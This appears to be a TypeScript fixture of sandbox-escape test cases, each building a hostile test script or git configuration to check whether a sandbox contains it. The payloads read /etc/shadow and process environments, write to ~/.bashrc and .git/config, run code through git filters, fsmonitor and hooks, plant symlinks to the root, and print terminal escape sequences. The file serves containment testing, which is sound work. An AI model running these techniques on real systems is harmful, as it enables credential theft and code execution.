import { changes, marks, tells, type Tricks } from './trick.ts';

/** check.js with further lines; the last one printed tells that all of it ran. */
const check = (lines: string): string =>
  `printf '%s' '${HEAD}${lines}' > check.js; echo 'console.log("check ran")' >> check.js; keep`;
const HEAD =
  'const fs = require("fs"), cp = require("child_process"); const sh = (s) => cp.spawnSync("/bin/sh", ["-c", s], { stdio: "inherit" }); const tried = (f) => { try { f(); } catch (e) { console.log(e.message); } };\n';
const MODULE =
  'git init -q ../module; git -C ../module commit -q --allow-empty -m m; git update-index --add --cacheinfo "160000,$(git -C ../module rev-parse HEAD),mod"; mkdir -p mod .evil/module; cp -r ../module/.git/. .evil/module/; mv .evil/module/HEAD .evil/module/HEAD.kept; rm -rf ../module';
const ARMED =
  '[filter "evil"]\\n\\tclean = ./.evil/mark\\n\\tprocess = ./.evil/mark\\n[core]\\n\\tfsmonitor = ./.evil/mark\\n';

/** What the repository's own test does while it runs, inside the sandbox. */
export const RUNNING: Tricks = {
  'a test that starts a program in every way': {
    make: check(
      'sh("./.evil/mark"); sh("setsid ./.evil/mark & nohup ./.evil/mark & /proc/self/cwd/.evil/mark"); tried(() => fs.writeFileSync("/proc/1/root" + process.cwd() + "/x", ""));\n',
    ),
    shows: marks('npm test'),
    runsInside: true,
  },
  'a test that looks for what is outside': {
    make: check(
      'sh("cat ../outside/* /proc/1/root/etc/shadow /proc/*/environ; ls -laR .. | head -200; find .. ~ -name notes.py -exec cat {} + 2>/dev/null");\n',
    ),
    shows: tells('node check.js 2>/dev/null'),
  },
  'a test that writes outside': {
    make: check(
      'for (const f of ["../outside/notes.py", "../outside/empty/new", "../new", ".git/config", process.env.HOME + "/.bashrc", "/etc/evil"]) tried(() => fs.writeFileSync(f, "evil"));\n',
    ),
    shows: changes('printf x > ../outside/empty/new'),
  },
  'a test that fills a submodule with filters': {
    make: `${MODULE}; echo '* filter=evil' > .evil/attributes; ${check(
      `sh("cp -r .evil/module mod/.git; mv mod/.git/HEAD.kept mod/.git/HEAD; mkdir -p mod/.git/info mod/.git/refs/heads; cp .evil/attributes mod/.git/info/attributes; mkdir -p mod/.evil; cp .evil/mark mod/.evil/mark; printf \\"${ARMED.replaceAll('"', '\\\\\\"').replaceAll('\\n', '\\\\\\\\n').replaceAll('\\t', '')}\\" >> mod/.git/config; cd mod; echo 1 > x.txt; git -c core.fsmonitor=false -c filter.evil.process= -c filter.evil.clean=cat add x.txt; echo 2 > x.txt; touch -d @1 x.txt");\n`,
    )}`,
    shows: marks('node check.js; git add --all || true'),
  },
  'a test that makes a repository with hooks': {
    make: check(
      'sh("git init -q inner; mkdir -p inner/.git/hooks; for h in pre-commit post-checkout post-index-change reference-transaction; do cp .evil/mark inner/.git/hooks/$h; done; git -C inner config core.fsmonitor $PWD/.evil/mark; echo x > inner/x");\n',
    ),
    shows: marks('node check.js; git -C inner status'),
  },
  'a test that names filters': {
    make: `git config filter.evil.clean "$MARK"; git config diff.evil.textconv "$MARK"; ${check(
      'fs.writeFileSync(".gitattributes", "* filter=evil diff=evil merge=evil\\n"); fs.writeFileSync("new.txt", "x");\n',
    )}`,
    shows: marks('node check.js; git add --all'),
  },
  'a test that sets up its git folder': {
    make: check(
      'sh("git config core.fsmonitor $PWD/.evil/mark; git config core.hooksPath $PWD/.evil; cp .evil/mark \\"$(git rev-parse --git-dir)/hooks/post-index-change\\"; git status; git commit -qam own; git branch slipway/stolen; git update-ref refs/heads/main HEAD");\n',
    ),
    shows: marks('node check.js; git status'),
  },
  'a test that swaps its folders for links': {
    make: `mkdir sub; echo s > sub/s.txt; ${check(
      'const out = process.cwd() + "/../outside"; fs.rmSync("sub", { recursive: true }); fs.symlinkSync(out, "sub"); fs.symlinkSync(out + "/notes.py", "read.py"); tried(() => fs.symlinkSync("/", "node_modules")); tried(() => fs.symlinkSync("/dev/zero", ".gitignore"));\n',
    )}`,
    shows: tells('node check.js; cat read.py'),
  },
  'a test that leaves pipes behind': {
    make: check('sh("mkfifo pipe .gitattributes a.py; mkdir -p deep; mkfifo deep/.gitignore");\n'),
  },
  'a test that leaves folders nobody may enter': {
    make: check(
      'fs.mkdirSync("closed/inner", { recursive: true }); fs.writeFileSync("closed/inner/x", ""); fs.chmodSync("closed/inner", 0); fs.chmodSync("closed", 0);\n',
    ),
  },
  'a test that writes to the dependencies of the checkout': {
    make: `mkdir -p node_modules/dep; echo 'module.exports = 1' > node_modules/dep/index.js; echo node_modules > .gitignore; ${check(
      'tried(() => fs.writeFileSync("node_modules/dep/index.js", "evil")); tried(() => fs.mkdirSync("node_modules/.cache")); tried(() => fs.symlinkSync("/", "node_modules/all"));\n',
    )}`,
    shows: changes('printf evil > node_modules/dep/index.js'),
  },
  'a report that is a link': {
    make: `printf "require('node:test')('t', () => {})" > t.test.js; printf '%s' '{"name":"p","scripts":{"test":"node --require ./swap.cjs --test"}}' > package.json; printf '%s' 'const fs = require("fs"); const to = process.execArgv.concat(process.argv).join(" ").match(/destination=(\\S+)/)?.[1]; if (to) { console.log("check ran"); process.on("exit", () => { try { fs.rmSync(to); fs.symlinkSync("'"$OUT"'/notes.py", to); } catch {} }); }' > swap.cjs; keep`,
    shows: tells('ln -s "$OUT/notes.py" report; cat report'),
  },
  'a test that prints control characters and a megabyte': {
    make: check(
      'process.stdout.write("\\x1b]52;c;ZXZpbA==\\x07\\x1b[2J\\x00" + "<script>alert(1)</script>".repeat(40000) + "\\n");\n',
    ),
  },
};
